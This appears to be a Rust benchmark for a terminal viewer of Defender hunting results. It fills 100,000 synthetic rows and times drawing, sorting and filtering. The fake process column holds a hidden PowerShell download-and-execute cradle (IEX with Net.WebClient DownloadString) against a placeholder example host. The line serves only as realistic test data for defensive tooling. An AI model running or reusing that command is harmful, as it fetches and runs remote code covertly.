//! A hunt's 100,000 rows (Graph's most) of eight columns: the memory they take once decoded,
//! one frame of the results view, a sort by time and a filter.

use super::*;
use mdetui::api::{HuntColumn, HuntQuery, HuntRow, HuntTable};

/// The bytes a table's rows hold on the heap: each row's cells (a pointer and length each)
/// and their text, before the allocator's own overhead.
fn heap_bytes(table: &HuntTable) -> usize {
    table
        .rows
        .iter()
        .map(|r| {
            std::mem::size_of::<HuntRow>()
                + r.cells.len() * std::mem::size_of::<Box<str>>()
                + r.cells.iter().map(|c| c.len()).sum::<usize>()
        })
        .sum()
}

fn table(rows: usize) -> HuntTable {
    let columns: Arc<[HuntColumn]> = [
        ("Timestamp", "DateTime"),
        ("DeviceName", "String"),
        ("DeviceId", "String"),
        ("AccountName", "String"),
        ("RemoteIP", "String"),
        ("RemotePort", "Int64"),
        ("ProcessCommandLine", "String"),
        ("SHA1", "String"),
    ]
    .iter()
    .map(|(name, kind)| HuntColumn {
        name: (*name).to_owned(),
        r#type: (*kind).to_owned(),
    })
    .collect();
    let rows = (0..rows)
        .map(|i| HuntRow {
            columns: columns.clone(),
            cells: [
                format!("2026-11-{:02}T{:02}:{:02}:{:02}Z", 1 + i % 28, i % 24, i % 60, i % 59),
                format!("wks-{:05}.corp.contoso.com", i % 5_000),
                format!("{:040x}", i % 5_000),
                format!("user{}", i % 700),
                format!("10.{}.{}.{}", i % 250, (i / 250) % 250, i % 200),
                (443 + i % 3).to_string(),
                format!("powershell.exe -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://cdn{i}.example/a.ps1')\""),
                format!("{:040x}", i * 7919),
            ]
            .into_iter()
            .map(String::into_boxed_str)
            .collect(),
        })
        .collect();
    HuntTable { columns, rows }
}

pub fn hunt(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let _guard = rt.enter();
    let table = table(100_000);
    eprintln!(
        "hunt: 100,000 rows of 8 columns hold {:.1} MB on the heap once decoded",
        heap_bytes(&table) as f64 / 1e6
    );
    let query = HuntQuery::new("DeviceProcessEvents | take 100000", None).unwrap();
    let mut model = Model::new(Session::demo(), Instant::now());
    navigate(&mut model, Route::Hunt(Box::new(query.clone())));
    let now = model.now;
    update(
        &mut model,
        Msg::Engine(Event::Fetched {
            resource: Resource::Hunt(Box::new(query)),
            payload: Payload::Hunt(Arc::new(table)),
            fetched_at: now,
            origins: vec![],
        }),
    );
    for (w, h) in [(160, 48), (80, 24)] {
        let mut terminal = Terminal::new(TestBackend::new(w, h)).unwrap();
        c.bench_function(&format!("hunt, 100,000 rows, {w}x{h}"), |b| {
            b.iter(|| {
                terminal.draw(|f| mdetui::ui::draw(&model, f)).unwrap();
            })
        });
    }
    c.bench_function("hunt, sort 100,000 rows by Timestamp", |b| {
        b.iter(|| {
            let pane = &mut model.nav.current.panes[0];
            pane.sort = Some(mdetui::entity::Sort {
                column: 0,
                descending: true,
            });
            pane.derived_from = None;
            panes::sync(&mut model);
        })
    });
    c.bench_function("hunt, filter 100,000 rows: \"user42 443\"", |b| {
        b.iter(|| refilter(&mut model, "user42 443"))
    });
}
